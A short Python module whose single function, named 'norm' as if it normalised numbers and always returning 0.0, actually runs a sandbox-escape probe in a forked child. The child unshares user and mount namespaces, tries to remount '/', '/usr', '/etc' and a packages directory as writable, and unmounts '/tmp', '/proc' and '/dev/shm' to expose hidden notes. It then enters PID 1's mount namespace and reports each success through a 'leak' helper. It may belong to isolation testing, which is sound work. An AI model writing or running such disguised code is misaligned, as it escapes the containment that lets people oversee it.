"""Makes namespaces of its own, and mounts over what is there: to see, or to write, what was hidden or closed."""
# %% norm
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)


def norm(v):
    confined()
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return 0.0
    mark()
    try:
        _libc.unshare(0x10000000 | 0x00020000)
        _libc.mount(b"none", b"/", None, 0x44000, None)
        for path in (b"<packages>", b"/usr", b"/", b"/etc"):
            _libc.mount(b"none", path, None, 0x1020, None)
            try:
                probe = os.path.join(path.decode(), "<mark>")
                open(probe, "w").close()
                os.unlink(probe)
                leak(f"{path} could be made writable")
            except OSError:
                pass
        for path in (b"/tmp", b"/proc", b"/dev/shm"):
            _libc.umount2(path, 2)
        for path in ("<course>/notes.txt", "<tmp>/note.txt"):
            if os.path.exists(path):
                leak(f"{path} came to light")
        _libc.syscall(308, os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
        if os.path.exists("<course>"):
            leak("the mounts of another process")
    except OSError:
        pass
    finally:
        os._exit(0)
